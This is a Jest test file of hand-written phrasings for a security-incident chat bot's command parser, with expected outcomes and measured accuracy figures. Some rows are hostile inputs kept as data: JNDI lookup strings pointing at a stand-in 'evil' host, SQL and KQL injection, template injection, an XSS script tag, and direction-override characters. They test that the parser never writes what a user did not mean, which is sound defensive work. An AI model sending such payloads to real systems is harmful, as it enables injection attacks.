/**
 * A judge's set: phrasings and hostile inputs written without running them, none of them in
 * the other corpora, to measure how the parser does on text it was not tuned on. Each row says
 * what a person meant: one exact command, a question (buttons or "which ...?"), or "anything
 * that writes nothing" (for questions, negations and hostile text). Every row also holds the
 * rule: whatever the parser makes of it, it never writes something the person did not mean.
 *
 * Measured before any fix for it (first set, JUDGED, 361 rows): 257 held (71.2%), and 22 were
 * writes the person did not mean: a task number read as a title ("mark task 2 done on 405211"),
 * a colleague's mention read as the sender taking it ("@Ada take 405211"), "I think Ada should
 * take 405211", "should I take 405211?", a right-to-left override that showed another number,
 * "405211 | union * to me", "to mee" looked up as a name, "reopen 405211 as new" set Active, a
 * dash kept in a comment, a second incident dropped ("to me and 405212 to Ada"). (One of the 22,
 * a blank comment, is refused by the incident service; counted as no write since.) After the
 * fixes: 361 of 361.
 * The second set (JUDGED_SECOND, 116 rows) was written after those fixes, without running it:
 * 107 held (92.2%), with 2 wrong writes ("<at>Ada</at> and me" assigned Ada; "reopen 405211 and
 * assign it to me" reopened only). After its fixes: 116 of 116.
 */
import type { Command, Mention } from '../../src/bot/command';
import { parseCommand } from '../../src/bot/commands';
import { N, tasks, show, assign, unassign, close, history, mine, looseEnds, help, sev, status, mappedSeverity, mappedStatus, comment, addTask, complete, completeTitled, toName, report, BOT, ADA } from './expectedCommands';
import { suggestionsFor } from '../../src/bot/parsing/suggestions';


const toAda: Command = { kind: 'assignTo', incidentNumber: N, assignee: { mention: ADA } };

/** Writes that happen on the message alone (close only opens the close card, but is counted too). */
const WRITES = new Set<Command['kind']>(['assignToMe', 'assignTo', 'unassign', 'setSeverity', 'setStatus', 'close', 'comment', 'addTask', 'completeTask']);
const QUESTIONS = new Set<Command['kind']>(['didYouMean', 'needsIncidentNumber', 'needsValue']);

type Expect =
  | Command
  /** A question: "Did you mean" buttons, "which incident?", "which value?". */
  | { asks: true }
  /** Nothing written; a read of an incident only of these numbers. */
  | { writesNothing: number[] }
  /** Not understood, with this among the "Did you mean" buttons. */
  | { suggests: string }
  | { oneOf: Expect[] }
  /** The command's kind (and these fields): for reports, whose title wording may vary. */
  | { like: Partial<Command> & { kind: Command['kind'] } };

const asks: Expect = { asks: true };
const nothing = (...allowed: number[]): Expect => ({ writesNothing: allowed });
const either = (...options: Expect[]): Expect => ({ oneOf: options });
const suggests = (text: string): Expect => ({ suggests: text });

/** A blank comment or task title is refused by the incident service with a question: no write. */
function writes(command: Command): boolean {
  if (command.kind === 'comment') return command.text.trim() !== '';
  if (command.kind === 'addTask') return command.title.trim() !== '';
  return WRITES.has(command.kind);
}

function holds(expect: Expect, command: Command, text: string, mentions: readonly Mention[]): boolean {
  if ('oneOf' in expect) return expect.oneOf.some((e) => holds(e, command, text, mentions));
  if ('asks' in expect) return QUESTIONS.has(command.kind);
  if ('writesNothing' in expect) return !writes(command) && (!('incidentNumber' in command) || command.incidentNumber === undefined || expect.writesNothing.includes(command.incidentNumber));
  if ('suggests' in expect) {
    if (command.kind === 'didYouMean') return command.options.includes(expect.suggests);
    return command.kind === 'unknown' && suggestionsFor(text, (t) => parseCommand(t, mentions)).includes(expect.suggests);
  }
  if ('like' in expect) return expect.like.kind === command.kind && Object.entries(expect.like).every(([k, v]) => JSON.stringify((command as unknown as Record<string, unknown>)[k]) === JSON.stringify(v));
  return JSON.stringify(sorted(expect)) === JSON.stringify(sorted(command));
}

function sorted(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(sorted);
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).sort(([a], [b]) => a.localeCompare(b)).map(([k, v]) => [k, sorted(v)]));
  return value;
}

type Row = [text: string, expect: Expect, mentions?: Mention[]];

export const JUDGED: Row[] = [
  // Tasks
  ["what's left on 405211", tasks],
  ['whats left on #405211?', tasks],
  ['any tasks still open on 405211', tasks],
  ['405211 tasks pls', tasks],
  ['tasks: 405211', tasks],
  ['tasks - 405211', tasks],
  ['TASKS FOR #405211', tasks],
  ["show me what's outstanding on 405211", either(tasks, show)],
  ['list todos 405211', tasks],
  ['to-do list for 405211', tasks],
  ['whats still to do on 405211', tasks],
  ['tasks for 405211\nthanks', tasks],
  ['show tasks for 405211 🙏🏽', tasks],
  ['taks 405211', tasks],
  ['tasks for incident no. 405211', tasks],
  ['What tasks r left on 405211', tasks],
  ['taskss 405211', tasks],
  ['shows tasks 405211', tasks],
  ['show tasks for ＃405211', tasks],
  // Show
  ['405211 pls', show],
  ['#405211 ???', show],
  ["405211 - what's going on", show],
  ['deets on 405211', either(show, suggests('show 405211'))],
  ['lemme see 405211', show],
  ['pull 405211 up', show],
  ['bring 405211 up pls', show],
  ["what's the sev on 405211?", show],
  ["what's 405211's severity", show],
  ["who's on #405211??", show],
  ['who has 405211 atm', show],
  ['is anyone on 405211?', show],
  ['is 405211 assigned?', show],
  ['is 405211 still open?', show],
  ['has anyone picked up 405211?', nothing(N)],
  ['status pls 405211', show],
  ['info 405211', show],
  ['summary of 405211', show],
  ['describe 405211', show],
  ['inc 405211', show],
  ['show INC-405211', show],
  ['show 405211 in full', show],
  ['show me 405211 again', show],
  ['405211 👀', show],
  ['show 405211 :-)', show],
  ['incidnet 405211', show],
  ['shw 405211', either(show, suggests('show 405211'))],
  ['/show 405211', show],
  ['close no. 405211', close],
  ['show (405211)', show],
  ['show [405211]', show],
  ["show '405211'", show],
  ['show #405211#', show],
  // Assign to me
  ['mine: 405211', assign],
  ['405211 -> me', assign],
  ['405211 → me', assign],
  ['405211 mine', assign],
  ['405211 is mine', assign],
  ["I've got 405211", assign],
  ['I got 405211', assign],
  ['on it 405211', either(assign, asks)],
  ['grab 405211 for me pls', assign],
  ['could you please assign me 405211?', assign],
  ['would you assign 405211 to me', assign],
  ['assign to myself 405211', assign],
  ['self-assign 405211', assign],
  ['self assign 405211', assign],
  ['Assign 405211 to ME', assign],
  ['ASSIGN #405211 TO ME PLS', assign],
  ["I'll handle 405211", assign],
  ["I'll take this one: 405211", assign],
  ['taking 405211', assign],
  ['dibs on 405211', either(assign, asks)],
  ['assign 405211 to me\nthanks', assign],
  ['assign 405211 to me 👍', assign],
  ['let me take 405211', assign],
  ['i can take 405211', assign],
  ['pick 405211 up', either(assign, asks)],
  ['assign 405211 to me?', assign],
  ['assign 405211 to me!!!!!!', assign],
  ['assign 405211 to me...', assign],
  ['assign 405211 to me :)', assign],
  ['assign\u00a0405211\u00a0to\u00a0me', assign],
  ['assign 405211,to me', assign],
  ['405211 assign me', assign],
  ['405211 to me', either(assign, asks)],
  ['FYI I\'m taking 405211', assign],
  ['heads up, taking 405211', assign],
  ["ok I'll take 405211 then", assign],
  ['yes, assign 405211 to me', assign],
  ['yep take 405211', assign],
  ['take 405211 🙋‍♀️', assign],
  ['Hi there, could you please assign incident #405211 to me when you get a chance? Thanks!', assign],
  ['asssign 405211 to me', assign],
  ['assign 405211 too me', either(assign, suggests('assign 405211 to me'))],
  ['assgn 405211 to me', either(assign, suggests('assign 405211 to me'))],
  // Assign: numbers that are not one plain incident number
  ['assign ๔๐๕๒๑๑ to me', asks],
  ['assign ৪০৫২১১ to me', asks],
  ['unassign 𝟰𝟬𝟱𝟮𝟭𝟭', asks],
  ['close ⁴⁰⁵²¹¹', asks],
  ['assign 405211 to me and 405212 to Ada', asks],
  ['assign 405211 to me, 405212 to Ada', asks],
  ['take 405211 and 405212', asks],
  ['grab 405211, 405212 and 405213', asks],
  ['assign 405 211 to me', asks],
  ['assign 405_211 to me', asks],
  ['assign 4O5211 to me', asks],
  ['assign 1e6 to me', asks],
  ['assign 0x62D1B to me', asks],
  ['405211 or 405212?', asks],
  ['show 405211/405212', asks],
  ['assign 405211 and also 405212 to me', asks],
  ['tasks for 405211 and show 405212', asks],
  ['assign 405211 to me in 5 minutes', either(asks, assign)],
  ['set severity of 405211 to high for 2 hours', asks],
  ['close 405211; close 405212', asks],
  ['close 405211 and 405212', asks],
  // Someone else
  ['405211 -> <at>Ada</at>', either(toAda, asks), [ADA]],
  ['assign 405211 <at>Ada</at>', either(toAda, asks), [ADA]],
  ['<at>Ada</at> can you take 405211?', either(toAda, asks, nothing(N)), [ADA]],
  ['<at>Ada</at> take 405211', either(toAda, asks, nothing(N)), [ADA]],
  ['<at>Ada</at> 405211 is yours', either(toAda, asks, nothing(N)), [ADA]],
  ['pls assign 405211 to ada.lovelace@contoso.com', toName('ada.lovelace@contoso.com')],
  ['assign 405211 to ada lovelace.', toName('ada lovelace')],
  ['reassign 405211 from me to Ada', either(toName('Ada'), asks)],
  ['reassign 405211 from Ada to me', either(assign, asks)],
  ['give 405211 to the night shift', toName('the night shift')],
  ['assign 405211 to Ada and 405212 to me', asks],
  ['assign 405211 to @Ada Lovelace', toName('Ada Lovelace')],
  ['hand off 405211 to grace', toName('grace')],
  ['can Ada take 405211?', either(toName('Ada'), asks, nothing(N))],
  ['Ada will take 405211', either(toName('Ada'), asks, nothing(N))],
  ["Ada's taking 405211", either(toName('Ada'), asks, nothing(N))],
  ['I think Ada should take 405211', either(toName('Ada'), asks, nothing(N))],
  ['tell Ada to take 405211', either(toName('Ada'), asks, nothing(N))],
  ['I want Grace on 405211', either(toName('Grace'), asks, nothing(N))],
  ["I'll give 405211 to Ada", either(toName('Ada'), asks)],
  ['no, assign 405211 to Ada', either(toName('Ada'), asks)],
  ['assign 405211 to mee', either(assign, asks)],
  ['assign 405211 to myslef', either(assign, asks)],
  // Unassign
  ['unassign me 405211', unassign],
  ['405211 unassign', unassign],
  ['drop 405211', either(unassign, asks)],
  ['release 405211', either(unassign, asks)],
  ['remove my assignment from 405211', unassign],
  ['unassign myself from #405211 pls', unassign],
  ['un-assign 405211', unassign],
  ['take 405211 off me', unassign],
  ["I'm off 405211", either(unassign, asks)],
  ['UNASSIGN 405211', unassign],
  ['unnassign 405211', unassign],
  ['unassing 405211', unassign],
  // Severity
  ['bump #405211 up to HIGH pls', sev('High')],
  ['405211 sev high', either(sev('High'), asks)],
  ['sev high 405211', either(sev('High'), asks)],
  ['sev:high 405211', sev('High')],
  ['severity=high 405211', sev('High')],
  ['set 405211 sev=low', sev('Low')],
  ['405211 -> high', either(sev('High'), asks)],
  ['make 405211 a high', sev('High')],
  ['set 405211 as high severity', sev('High')],
  ['set severity of 405211 to high!!! 🔥', sev('High')],
  ['raise 405211', asks],
  ['escalate 405211', asks],
  ['downgrade 405211', asks],
  ['set severity of 405211 to high and assign it to me', asks],
  ['set severity 405211 high, status active', asks],
  ['set severity of 405211 to sev0', mappedSeverity('sev0', 'High')],
  ['set severity of 405211 to P0', mappedSeverity('p0', 'High')],
  ['make 405211 crit', mappedSeverity('crit', 'High')],
  ['405211 is critical', either(mappedSeverity('critical', 'High'), asks)],
  ['set 405211 to highest', mappedSeverity('highest', 'High')],
  ['set 405211 to lowest', mappedSeverity('lowest', 'Informational')],
  ['set severity of 405211 to informative', asks],
  ['set severity of 405211 to medium-high', asks],
  ['set severity of 405211 to 3', asks],
  ['set severity to high on 405211', sev('High')],
  ['change sev. of 405211 → low', sev('Low')],
  ['Sev 405211: Low', sev('Low')],
  ['SET SEVERITY OF 405211 TO LOW', sev('Low')],
  ['set severity of 405211 to lоw', asks],
  ['sevirity of 405211 to high', sev('High')],
  ['set severtiy 405211 high', sev('High')],
  ['set 405211 to high :(', sev('High')],
  ['high sev for 405211', either(sev('High'), asks)],
  ['for 405211 set severity to high', sev('High')],
  // Status
  ['mark 405211 active', status('Active')],
  ['405211 -> active', either(status('Active'), asks)],
  ['set 405211 to new', status('New')],
  ['status: active 405211', status('Active')],
  ['SET STATUS 405211 ACTIVE', status('Active')],
  ['mark 405211 as in-progress', mappedStatus('in-progress', 'Active')],
  ['mark 405211 wip', mappedStatus('wip', 'Active')],
  ['405211 in progress pls', either(mappedStatus('in progress', 'Active'), asks)],
  ['start working on 405211', nothing(N)],
  ['set 405211 to on hold', asks],
  ['set 405211 to waiting', asks],
  ['re-open 405211', status('Active')],
  ['reopne 405211', status('Active')],
  ['reopen 405211 as new', either(status('New'), asks)],
  ['set status of 405211 to active and severity to high', asks],
  ['mark 405211 as true positive', mappedStatus('true positive', 'Closed')],
  // Close
  ['resolve 405211 as false positive', close],
  ['405211 is a false positive, close it', close],
  ['close 405211 - benign', close],
  ['dismiss 405211 as benign', close],
  ['close all my incidents', asks],
  ['close 405211?', close],
  ['closing 405211', either(close, asks)],
  ['close 405211 ✅', close],
  ['CLOSE INCIDENT #405211', close],
  ['cloes 405211', close],
  ['Would you mind closing 405211 for me?', close],
  ['close it, 405211', close],
  ['405211 close', close],
  ['close 405211\r\n', close],
  // Comments
  ['comment 405211: user confirmed it was them 👍', comment('user confirmed it was them 👍')],
  ['note: 405211 user on leave', either(comment('user on leave'), asks)],
  ['405211: add comment called user', either(comment('called user'), asks)],
  ['comment on 405211 -> escalated to tier 2', comment('escalated to tier 2')],
  ['comment 405211\nLine one\nLine two', comment('Line one\nLine two')],
  ['comment on #405211 – spoke to Ada', comment('spoke to Ada')],
  ['comment 405211 — spoke to Ada', comment('spoke to Ada')],
  ['add comment 405211 checked logs, nothing found', comment('checked logs, nothing found')],
  ['405211 comment: called user', either(comment('called user'), asks)],
  ['comemnt 405211 called user', comment('called user')],
  ['COMMENT 405211 CALLED USER', comment('CALLED USER')],
  ['comment 405211 user called at 10:30', comment('user called at 10:30')],
  ['comment 405211', nothing(N)],
  ['comment 405211 ${jndi:ldap://x/a}', comment('${jndi:ldap://x/a}')],
  ["comment 405211 '; drop table incidents; --", comment("'; drop table incidents; --")],
  ['comment 405211 | union *', comment('| union *')],
  // Tasks written
  ["add task 'block sender' to 405211", addTask('block sender')],
  ['add a task on 405211 — reset creds', addTask('reset creds')],
  ['add task for 405211 reset creds', addTask('reset creds')],
  ['new todo for 405211: ping HR', addTask('ping HR')],
  ['task for 405211: check MFA', either(addTask('check MFA'), asks)],
  ['add task to 405211', nothing(N)],
  ['add task to 405211: {{7*7}}', addTask('{{7*7}}')],
  ['add task to 405211: call 0800 123 456', addTask('call 0800 123 456')],
  ['on 405211, add task check MFA', either(addTask('check MFA'), asks)],
  ['mark task 2 done on 405211', complete(2)],
  ['405211 task 2 done', either(complete(2), asks)],
  ['tick off task 3 on 405211 ✅', complete(3)],
  ['complete tasks 1 and 2 of 405211', asks],
  ['complete task 2 of 405211 and 405212', asks],
  ['complete task -2 of 405211', asks],
  ['complete task 2 of #405211 pls', complete(2)],
  ["finish task 'notify legal' on 405211", completeTitled('notify legal')],
  ['close task 1 on 405211', complete(1)],
  ['mark the first task on 405211 done', either(complete(1), asks, tasks)],
  ['move task 2 from 405211 to 405212', nothing()],
  // History
  ['what happened on 405211', either(history, show)],
  ['who did what on 405211', either(history, show)],
  ['history pls 405211', history],
  ['405211 history', history],
  ['histroy 405211', history],
  // My incidents, loose ends: numbers that are not incident numbers
  ['show my top 5 incidents', mine],
  ['my 10 latest incidents', mine],
  ['tasks from last 24 hours', nothing()],
  ['my incidents from the last 7 days', mine],
  ['incidents assigned to me today', mine],
  ['whats mine', mine],
  ['what have I got open', mine],
  ['anything on my plate?', mine],
  ['list mine', mine],
  ['MY INCIDENTS', mine],
  ['my incidnets', mine],
  ['top 3 high incidents', nothing()],
  ['incidents in the last 24h', nothing()],
  ['show incidents from 2026-12-01', nothing()],
  ['closed incidents that have tasks open', looseEnds],
  ['loose-ends', looseEnds],
  ['LOOSE ENDS!!', looseEnds],
  ['show me the loose ends pls', looseEnds],
  ['lose ends', either(looseEnds, suggests('loose ends'))],
  // Report
  ['report a phish', report('a phish')],
  ["I'd like to report phishing", report('phishing')],
  ['report: CEO fraud email\nsent to finance at 9am', report('CEO fraud email\nsent to finance at 9am')],
  ['report ${jndi:ldap://evil}', report('${jndi:ldap://evil}')],
  ['report <script>alert(1)</script>', report('<script>alert(1)</script>')],
  ['new incident pls', report()],
  ['open an incident for a lost phone', { like: { kind: 'report' } }],
  // Help
  ['help?', help],
  ['HELP!!!', help],
  ['what can I do here', help],
  ['how do I use this', help],
  ['what commands are there', help],
  ['help with tasks', help],
  ['??', help],
  ['/help', help],
  ['hepl', help],
  // Questions: nothing is written
  ['should I take 405211?', nothing(N)],
  ['should I close 405211?', nothing(N)],
  ['should we close 405211', nothing(N)],
  ['is it ok to close 405211?', nothing(N)],
  ['can 405211 be closed?', nothing(N)],
  ['did you assign 405211 to me?', nothing(N)],
  ['was 405211 assigned to me?', nothing(N)],
  ['why is 405211 assigned to me?', nothing(N)],
  ['who assigned 405211 to me?', nothing(N)],
  ['is 405211 assigned to me', nothing(N)],
  ['why is 405211 high?', nothing(N)],
  ['is 405211 high severity?', nothing(N)],
  ['was 405211 set to high?', nothing(N)],
  ['who set 405211 to high?', nothing(N)],
  ['what if we set 405211 to low?', nothing(N)],
  ['did someone unassign 405211?', nothing(N)],
  ['who unassigned 405211', nothing(N)],
  ['has 405211 been reopened?', nothing(N)],
  ['how do I assign 405211 to someone', nothing(N)],
  ['why was 405211 closed?', nothing(N)],
  ['who closed 405211', nothing(N)],
  ['can I close 405211?', either(close, nothing(N))],
  ['tak 405211', nothing(N)],
  // Negations
  ["don't take 405211", nothing(N)],
  ['do NOT assign 405211 to me', nothing(N)],
  ["no, don't close 405211", nothing(N)],
  ['not 405211, I meant 405212', nothing(N, 405212)],
  ["I'm not on 405211 anymore", either(nothing(N), unassign)],
  ['dont bump 405211', nothing(N)],
  ['stop assigning 405211 to me', nothing(N)],
  ['no need to close 405211', nothing(N)],
  ["nope, don't close 405211", nothing(N)],
  ['please don\u2019t unassign 405211', nothing(N)],
  // Channels and group chats: the bot's mention, typed @, mentions elsewhere
  [`${BOT}\nshow 405211`, show],
  [`${BOT}&nbsp;show 405211`, show],
  [`show 405211 ${BOT}`, show],
  [`${BOT} can you please take 405211 for me? thanks!`, assign],
  [`hey ${BOT} show 405211`, show],
  ['@Sentinel show 405211', show],
  ['@Sentinel Incidents show 405211', show],
  [`${BOT} grab 405211 pls 🙏`, assign],
  [`${BOT} 405211`, show],
  [`${BOT} who's on 405211?`, show],
  ['<at>Sentinel</at>\u00a0tasks 405211', tasks],
  [`${BOT} Morning all! Can someone with access set 405211 to high sev please`, sev('High')],
  ['Sorry to bother, who owns 405211?', show],
  ['quick one - whats the status of 405211', show],
  ['When you have a sec, can you show me the tasks on 405211?', tasks],
  // Hostile: KQL, SQL and template injection, invisible and direction characters, very long text
  ['show 405211 | union *', nothing(N)],
  ['assign 405211 | union * to me', nothing(N)],
  ["set severity of 405211 to high'; drop table incidents;--", asks],
  ['close 405211 or 1=1', asks],
  ['show ${incidentNumber}', asks],
  ['assign ${405211} to me', either(assign, asks)],
  ['\u200bassign 405211 to me', assign],
  ['as\u200bsign 405211 to me', either(assign, asks)],
  ['assign 4052\u200b11 to me', either(assign, asks)],
  ['set severity of 4052\u200b11 to low', either(sev('Low'), asks)],
  ['set severity of 405211 to low\u200b', sev('Low')],
  ['assign \u202e112504\u202c to me', asks],
  ['set severity of \u202e112504 to low', asks],
  ['set severity of 405211 to \u202ehgih\u202c', asks],
  ['assign \u2067405211\u2069 to me', either(assign, asks)],
  ['close \u200f405211', either(close, asks)],
  ['set severity of 405211\u200f to low', either(sev('Low'), asks)],
  ['show 405211\u0000', either(show, nothing(N))],
  ['show 405211 ' + 'a '.repeat(3000), nothing(N)],
  ['assign 405211 to me ' + 'please '.repeat(2000), either(assign, asks)],
  ['x'.repeat(100_000), nothing()],
  ['405211 '.repeat(500), asks],
];

/** A second set, written after the fixes for the first, without running it, to measure them on text they were not made for. */
export const JUDGED_SECOND: Row[] = [
  ['405211 todo', tasks],
  ['whats outstanding for 405211', either(tasks, show)],
  ['open items 405211', either(tasks, show)],
  ['gimme the tasks for 405211', tasks],
  ['pls can i see tasks on 405211', tasks],
  ['tasks 405211 & 405212', asks],
  ['Tasks for #405211 :)', tasks],
  ['tasks for 405211 thx!', tasks],
  ['pull up incident 405211 pls', show],
  ['status of #405211??', show],
  ['details 405211 🙏', show],
  ["what's the deal with 405211", either(show, suggests('show 405211'))],
  ["who's working 405211", either(show, suggests('show 405211'))],
  ['anyone looking at 405211?', nothing(N)],
  ['sitrep 405211', either(show, suggests('show 405211'))],
  ['405211 status check', show],
  ['open #405211 please', show],
  ['Incident 405211 details', show],
  ['assign #405211 to myself, ta', assign],
  ["I'll own 405211", assign],
  ["I'm on 405211", either(assign, asks, nothing(N))],
  ['me 405211', either(assign, asks)],
  ['gimme 405211', either(assign, asks)],
  ['put 405211 on me', either(assign, asks)],
  ['take 405211 pls ty', assign],
  ['taking #405211 now', assign],
  ['I will take 405211 and 405212', asks],
  ['assign 405211 to me pls 🙏', assign],
  ['please assign 405211 to me!', assign],
  ['can I take 405211?', either(assign, asks)],
  ['could I grab 405211', either(assign, asks)],
  ['Ada should take 405211', either(toName('Ada'), asks, nothing(N))],
  ['we should take 405211', either(asks, nothing(N))],
  ['my colleague will take 405211', either(asks, nothing(N))],
  ['<at>Ada</at> please grab 405211', either(toAda, asks, nothing(N)), [ADA]],
  ['<at>Ada</at> assign 405211 to me', either(assign, asks), [ADA]],
  // Two people named: searched as typed, as the other corpora decide for two mentions (it fits nobody, and is said so).
  ['assign 405211 to <at>Ada</at> and me', either(asks, nothing(N), toName('Ada and me')), [ADA]],
  ['assign 405211 to Ada?', toName('Ada')],
  ['assign 405211 to ada@contoso.com pls', toName('ada@contoso.com')],
  ['assign 405211 to the on-call', toName('the on-call')],
  ["unassign 405211 please, I'm off shift", unassign],
  ['take me off of 405211', unassign],
  ['remove me from incident 405211 pls', unassign],
  ['405211 no longer mine', either(unassign, asks, nothing(N))],
  ['not mine: 405211', either(unassign, asks, nothing(N))],
  ['set sev to low for #405211', sev('Low')],
  ['405211 should be high', either(sev('High'), asks)],
  ["make 405211's severity medium", sev('Medium')],
  ['sev 405211 → medium', sev('Medium')],
  ['severity: low, incident 405211', sev('Low')],
  ['set the priority of 405211 to P1', mappedSeverity('p1', 'High')],
  ['severity 405211 critical pls', mappedSeverity('critical', 'High')],
  ['set 405211 to high severity and close it', asks],
  ['drop 405211 to low', either(sev('Low'), asks)],
  ['set severity of incident 405211 & 405212 to high', asks],
  ['set severity of 405211 to High (was Medium)', either(sev('High'), asks)],
  ["set severity of 405211 to 'high'", sev('High')],
  ['set severity of 405211 to "low"', sev('Low')],
  ['set 405211 active pls', status('Active')],
  ['405211 status active', either(status('Active'), asks)],
  ['mark 405211 as being worked on', either(mappedStatus('being worked on', 'Active'), asks)],
  ['put 405211 back to new', status('New')],
  ['reopen 405211 it was closed by mistake', status('Active')],
  ['reopen 405211 and assign it to me', asks],
  ['mark 405211 as active and 405212 as new', asks],
  ['close 405211 pls - FP', close],
  ['close 405211 as benign positive', close],
  ['can you close out 405211 please', close],
  ['resolve #405211', close],
  ['close 405211 and assign 405212 to me', asks],
  ['close everything', asks],
  ["don't resolve 405211 yet", nothing(N)],
  ['comment 405211 - user was on VPN', comment('user was on VPN')],
  ['comment #405211: "called, no answer"', comment('called, no answer')],
  ['comment on 405211 that the user confirmed', either(comment('that the user confirmed'), comment('the user confirmed'))],
  ['note 405211 — reimaged', comment('reimaged')],
  ['add note 405211: waiting on HR', comment('waiting on HR')],
  ['comment 405211 405212 is related', asks],
  ['comment 405211: ${7*7}', comment('${7*7}')],
  ['comment 405211 <at>Ada</at> please check', comment('<at>Ada</at> please check'), [ADA]],
  ['add task: check VPN logs to 405211', addTask('check VPN logs')],
  ['add task to 405211 – notify the manager', addTask('notify the manager')],
  ['add task to 405211 -> block IP', addTask('block IP')],
  ['add todo 405211: reset MFA', either(addTask('reset MFA'), asks)],
  ['complete the second task on 405211', complete(2)],
  ['complete task 2 on 405211 please ✅', complete(2)],
  ['finish 2nd task of 405211', either(complete(2), asks)],
  ['task 2 done 405211', either(complete(2), asks)],
  ['complete task 2 and 3 of 405211', asks],
  ['complete task 0 of 405211', asks],
  ['complete task 2 of 405211 and close it', asks],
  ['what changed on 405211', either(history, show)],
  ['audit trail 405211', history],
  ['405211 timeline pls', history],
  ['list my incidents pls', mine],
  ['show me my 5 newest incidents', mine],
  ['my incidents this week', mine],
  ['my high incidents', mine],
  ["incidents I'm on", mine],
  ['show incidents from the last 24 hours', nothing()],
  ['show 405211 OR 1=1', either(asks, nothing(N))],
  ['assign 405211 to me; drop table', nothing(N)],
  ['assign 405211 to ${user}', nothing(N)],
  ['assign 405211 to <script>', nothing(N)],
  ['set severity of 405211 to high\u0000', sev('High')],
  ['close 40521١', asks],
  ['close 405\u200d211', either(close, asks)],
  ['unassign\t405211', unassign],
  ['  assign   405211   to   me  ', assign],
  ['assign 405211 to me assign 405211 to me', either(assign, asks)],
  ['show 9999999999999999999', asks],
  ['close 2147483648', asks],
  ['close 2147483647', { kind: 'close', incidentNumber: 2147483647 }],
  [`${BOT}${BOT}close 405211`, close],
  ['ａｓｓｉｇｎ 405211 to me', either(assign, asks, nothing(N))],
  ['\u202eem ot 112504 ngissa', nothing(N, 112504)],
];

const run = (text: string, mentions: readonly Mention[]): Command => parseCommand(text, mentions);

export function holdsRow(text: string, expected: Expect, mentions: readonly Mention[]): boolean {
  return holds(expected, run(text, mentions), text, mentions);
}

describe('a judge\'s phrasings, unseen by the parser', () => {
  it('holds at least 150 of them', () => {
    expect(JUDGED.length).toBeGreaterThanOrEqual(150);
  });

  it.each([...JUDGED, ...JUDGED_SECOND].map(([text, expect, mentions]) => [text.length > 120 ? `${text.slice(0, 60)}… (${text.length} chars)` : text, text, expect, mentions ?? []] as const))('%j', (_label, text, expected, mentions) => {
    const command = run(text, mentions);
    if (!holds(expected, command, text, mentions)) throw new Error(`read as ${JSON.stringify(command).slice(0, 300)}`);
  });

  it('never writes what the row does not say the person meant', () => {
    const wrong = [...JUDGED, ...JUDGED_SECOND].filter(([text, expected, mentions]) => {
      const command = run(text, mentions ?? []);
      return writes(command) && !holds(expected, command, text, mentions ?? []);
    }).map(([text]) => text.slice(0, 80));
    expect(wrong).toEqual([]);
  });
});
